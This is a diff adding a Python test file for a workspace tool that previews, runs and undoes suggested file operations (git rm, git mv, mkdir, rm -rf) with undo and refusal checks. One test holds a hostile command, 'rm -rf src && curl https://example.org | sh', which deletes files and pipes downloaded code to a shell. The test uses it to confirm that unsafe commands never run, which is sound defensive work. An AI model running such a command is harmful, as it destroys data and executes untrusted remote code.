@@ -1,0 +1,330 @@
+"""Promises of suggested operations: shown first, run exactly so, undoable."""
+
+import errno
+import os
+import stat
+import sys
+
+import pytest
+
+from guillemet.engine.errors import FileError, GuillemetError, RepositoryError
+from guillemet.engine.git.safe_dir import SafeDir
+from guillemet.engine.review import Decision, Kind, SuggestionState
+from guillemet.engine.workspace import Workspace, commands
+from tests.kit.replies import edit
+from tests.kit.repositories import RepositoryBuilder
+
+
+def suggested(repository: RepositoryBuilder, command: str) -> Workspace:
+    workspace = Workspace.open(repository.root)
+    workspace.apply(f"Then run:\n\n```bash\n{command}\n```\n")
+    return workspace
+
+
+@pytest.fixture
+def filled(repository: RepositoryBuilder) -> RepositoryBuilder:
+    repository.commit({"old.py": "old\n", "src/a.py": "a\n", "src/deep/b.py": "b\n", ".gitignore": "*.log\n"})
+    repository.write({"src/notes.txt": "untracked\n", "src/run.log": "ignored\n"})
+    (repository.root / "src" / "empty").mkdir()
+    (repository.root / "src" / "link").symlink_to("../old.py")
+    return repository
+
+
+def everything(repository: RepositoryBuilder) -> tuple[dict[str, bytes], list[str]]:
+    folders = [
+        path.relative_to(repository.root).as_posix()
+        for path in sorted(repository.root.rglob("*"))
+        if path.is_dir() and ".git" not in path.parts
+    ]
+    return repository.snapshot(), folders
+
+
+def test_git_rm_removes_file_and_entry_and_undo_brings_both_back(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git rm old.py")
+    before = everything(filled)
+
+    touched = workspace.preview("git rm old.py").touched
+    done = workspace.run("git rm old.py")
+
+    assert [(one.path, one.does) for one in touched] == [("old.py", "deleted")]
+    assert not (filled.root / "old.py").exists()
+    assert filled.staged("old.py") is None
+    assert [(line.path, line.kind, line.is_staged) for line in done.review.commit] == [("old.py", Kind.DELETED, True)]
+
+    workspace.undo()
+    assert everything(filled) == before
+    assert filled.staged("old.py") == b"old\n"
+
+
+def test_git_mv_moves_and_is_committed_as_a_move(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git mv old.py lib/new.py")
+    before = everything(filled)
+
+    done = workspace.run("git mv old.py lib/new.py")
+    assert [(line.path, line.kind, line.moved_from) for line in done.review.commit] == [
+        ("lib/new.py", Kind.MOVED, "old.py")
+    ]
+    assert filled.staged("lib/new.py") == b"old\n"
+
+    workspace.commit("Move it")
+    assert (filled.committed("old.py"), filled.committed("lib/new.py")) == (None, b"old\n")
+
+    workspace.undo()
+    workspace.undo()
+    assert everything(filled) == before
+
+
+def test_git_mv_of_a_folder_takes_everything_in_it(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git mv src lib")
+    before = everything(filled)
+
+    workspace.run("git mv src lib")
+
+    assert filled.read("lib/deep/b.py") == b"b\n"
+    assert filled.read("lib/notes.txt") == b"untracked\n"
+    assert (filled.root / "lib" / "link").readlink().as_posix() == "../old.py"
+    workspace.undo()
+    assert everything(filled) == before
+
+
+def test_git_mv_onto_a_file_is_refused(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git mv old.py src/a.py")
+
+    assert "exists already" in workspace.preview("git mv old.py src/a.py").refusal
+
+
+def test_git_mv_into_a_folder_keeps_the_name(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git mv old.py src")
+
+    workspace.run("git mv old.py src")
+
+    assert filled.read("src/old.py") == b"old\n"
+
+
+def test_mkdir_makes_the_folders_and_undo_removes_them(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "mkdir -p one/two")
+    before = everything(filled)
+
+    workspace.run("mkdir -p one/two")
+    assert (filled.root / "one" / "two").is_dir()
+
+    workspace.undo()
+    assert everything(filled) == before
+
+
+def test_rm_rf_lists_everything_removes_it_and_brings_it_back(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "rm -rf src")
+    before = everything(filled)
+
+    touched = {one.path: one.note for one in workspace.preview("rm -rf src").touched}
+    workspace.run("rm -rf src")
+
+    assert touched == {
+        "src/a.py": "",
+        "src/deep/b.py": "",
+        "src/notes.txt": "untracked",
+        "src/run.log": "ignored",
+        "src/link": "link to ../old.py, not followed",
+        "src": "",
+    }
+    assert not (filled.root / "src").exists()
+    assert filled.read("old.py") == b"old\n"
+    assert filled.staged("src/a.py") == b"a\n"
+
+    workspace.undo()
+    assert everything(filled) == before
+    assert (filled.root / "src" / "link").readlink().as_posix() == "../old.py"
+
+
+def test_rm_rf_of_a_nested_repository_is_refused(filled: RepositoryBuilder) -> None:
+    RepositoryBuilder(filled.root / "vendor" / "inner").commit({"x": "x\n"})
+    workspace = suggested(filled, "rm -rf vendor")
+
+    assert workspace.preview("rm -rf vendor").refusal
+    with pytest.raises(GuillemetError):
+        workspace.run("rm -rf vendor")
+    assert (filled.root / "vendor" / "inner" / "x").exists()
+
+
+def test_more_than_undo_keeps_is_said_and_asked(filled: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(commands, "UNDO_BYTES", 3)
+    workspace = suggested(filled, "rm -rf src")
+
+    assert workspace.preview("rm -rf src").is_too_big_to_undo
+    with pytest.raises(GuillemetError, match="undo"):
+        workspace.run("rm -rf src")
+    assert (filled.root / "src" / "a.py").exists()
+
+
+def test_a_file_with_an_open_proposal_is_not_deleted(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git rm old.py")
+    workspace.apply(edit("old.py", "old", "new"))
+
+    assert "not decided" in workspace.preview("git rm old.py").refusal
+
+
+def test_a_press_marks_the_suggestion_done_and_undo_opens_it_again(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git rm old.py")
+
+    assert workspace.run("git rm old.py").review.suggestions[0].state is SuggestionState.DONE
+    assert workspace.undo().review.suggestions[0].state is SuggestionState.OPEN
+
+
+def test_an_unsafe_command_is_text_with_a_reason_and_never_runs(filled: RepositoryBuilder) -> None:
+    command = "rm -rf src && curl https://example.org | sh"
+    workspace = suggested(filled, command)
+
+    (shown,) = workspace.review().suggestions
+    assert (shown.text, shown.state) == (command, SuggestionState.TEXT)
+    assert shown.why
+    with pytest.raises(GuillemetError):
+        workspace.run(command)
+    assert (filled.root / "src" / "a.py").exists()
+
+
+@pytest.mark.parametrize(
+    "command", ["rm -rf src src/deep", "rm -rf src src", "git rm old.py old.py", "git rm -r src src/a.py"]
+)
+def test_a_path_named_twice_is_removed_once_and_comes_back(filled: RepositoryBuilder, command: str) -> None:
+    workspace = suggested(filled, command)
+    before = filled.state()
+    listed = [one.path for one in workspace.preview(command).touched]
+
+    done = workspace.run(command)
+
+    assert done.refusals == ()
+    assert len(listed) == len(set(listed))
+    assert {line.path for line in done.review.commit} <= set(listed)
+    workspace.undo()
+    assert filled.state() == before
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="there are no such permissions")
+@pytest.mark.parametrize("command", ["rm -rf src", "git mv src other", "git mv src/a.py key", "git rm -r src"])
+def test_what_is_private_is_private_when_it_is_moved_or_comes_back(filled: RepositoryBuilder, command: str) -> None:
+    def private() -> dict[str, int]:
+        files = (place for place in filled.root.rglob("[!.]*") if ".git" not in place.parts)
+        found = ((place, stat.S_IMODE(place.stat().st_mode)) for place in files)
+        return {place.name: mode for place, mode in found if mode in (0o600, 0o700)}
+
+    (filled.root / "src" / "deep" / "b.py").chmod(0o600)
+    (filled.root / "src" / "a.py").chmod(0o600)
+    (filled.root / "src").chmod(0o700)
+    before = private()
+    workspace = suggested(filled, command)
+
+    workspace.run(command)
+    between = private()
+    workspace.undo()
+
+    assert set(before) == {"a.py", "b.py", "src"}
+    assert private() == before
+    if "key" in command:
+        assert between == {"key": 0o600, "b.py": 0o600, "src": 0o700}
+
+
+@pytest.mark.parametrize("command", ["git rm -f a.txt", "git rm --cached a.txt", "git mv a.txt b.txt"])
+@pytest.mark.parametrize("verb", ["reject", "reconsider"])
+def test_an_accepted_file_that_a_command_took_away_is_not_called_undecided(
+    repository: RepositoryBuilder, command: str, verb: str
+) -> None:
+    repository.commit({"a.txt": "a\n", "far.txt": "far\n"})
+    workspace = suggested(repository, command)
+    workspace.apply(edit("a.txt", "a", "A") + edit("far.txt", "far", "FAR"))
+    workspace.accept(["a.txt"])
+    workspace.run(command)
+    before = repository.state()
+
+    done = getattr(workspace, verb)(["a.txt"])
+
+    assert "by a command after it was accepted" in done.refusals[0].message
+    assert repository.state() == before
+    assert [file.path for file in done.review.decided(Decision.ACCEPTED)] == ["a.txt"]
+
+
+@pytest.mark.parametrize("command", ["git rm -f new.txt", "git rm --cached new.txt", "git mv new.txt far.txt"])
+@pytest.mark.parametrize("verb", ["reject", "reconsider"])
+def test_both_ends_of_an_accepted_move_stay_accepted_when_a_command_took_one_away(
+    repository: RepositoryBuilder, command: str, verb: str
+) -> None:
+    repository.commit({"old.txt": "a\n"})
+    workspace = suggested(repository, command)
+    workspace.apply("*** Begin Patch\n*** Update File: old.txt\n*** Move to: new.txt\n@@\n-a\n+A\n*** End Patch\n")
+    workspace.accept(["new.txt"], stage=True)
+    workspace.run(command)
+    before = repository.state()
+
+    done = getattr(workspace, verb)(["new.txt"])
+
+    assert {refusal.path for refusal in done.refusals} == {"old.txt", "new.txt"}
+    assert repository.state() == before
+    assert [file.path for file in done.review.decided(Decision.ACCEPTED)] == ["new.txt"]
+
+
+def test_what_cannot_be_removed_stays_in_git_too(filled: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(commands, "UNDO_BYTES", 1)
+    (filled.root / "src" / "a.py").chmod(0o444)
+    workspace = suggested(filled, "git rm -r src")
+
+    done = workspace.run("git rm -r src", even_if_too_big=True)
+
+    assert [refusal.path for refusal in done.refusals] == ["src/a.py"]
+    assert filled.staged("src/a.py") == b"a\n"
+    assert filled.staged("src/deep/b.py") is None
+
+
+def test_a_folder_that_cannot_be_made_leaves_none_of_those_above_it(
+    filled: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    workspace = suggested(filled, "mkdir -p made/deep/deeper")
+    before = everything(filled)
+    make = SafeDir.make_folder
+
+    def full(folder: SafeDir, name: str) -> None:
+        if name == "deeper":
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+        make(folder, name)
+
+    monkeypatch.setattr(SafeDir, "make_folder", full)
+
+    with pytest.raises(FileError, match="no space"):
+        workspace.run("mkdir -p made/deep/deeper")
+
+    assert everything(filled) == before
+
+
+@pytest.mark.parametrize("even_if_too_big", [False, True])
+def test_what_was_not_previewed_is_not_removed(
+    filled: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch, *, even_if_too_big: bool
+) -> None:
+    if even_if_too_big:
+        monkeypatch.setattr(commands, "UNDO_BYTES", 1)
+    workspace = suggested(filled, "rm -rf src")
+    preview = workspace.preview("rm -rf src")
+    filled.write({"src/unsaved.txt": "mine\n"})
+    before = filled.snapshot()
+
+    with pytest.raises(RepositoryError, match=r"src/unsaved\.txt is new"):
+        workspace.run("rm -rf src", even_if_too_big=even_if_too_big, previewed=preview)
+    assert filled.snapshot() == before
+
+    preview = workspace.preview("rm -rf src")
+    workspace.run("rm -rf src", even_if_too_big=even_if_too_big, previewed=preview)
+    assert not (filled.root / "src").exists()
+
+
+def test_folders_that_git_rm_and_git_mv_leave_empty_are_listed(filled: RepositoryBuilder) -> None:
+    filled.commit({"deep/er/one.txt": "1\n", "deep/two.txt": "2\n", "lib/three.txt": "3\n"})
+    commands = ("git rm deep/er/one.txt", "git mv lib/three.txt lib/four.txt")
+    workspace = suggested(filled, "\n".join(commands))
+
+    for command, folders in zip(commands, (["deep/er"], []), strict=True):
+        preview = workspace.preview(command)
+        assert [one.path for one in preview.touched if one.does == "folder deleted"] == folders
+        workspace.run(command, previewed=preview)
+
+    assert not (filled.root / "deep" / "er").exists()
+    assert sorted(path.name for path in (filled.root / "deep").iterdir()) == ["two.txt"]
+    workspace.undo()
+    workspace.undo()
+    assert filled.read("deep/er/one.txt") == b"1\n"
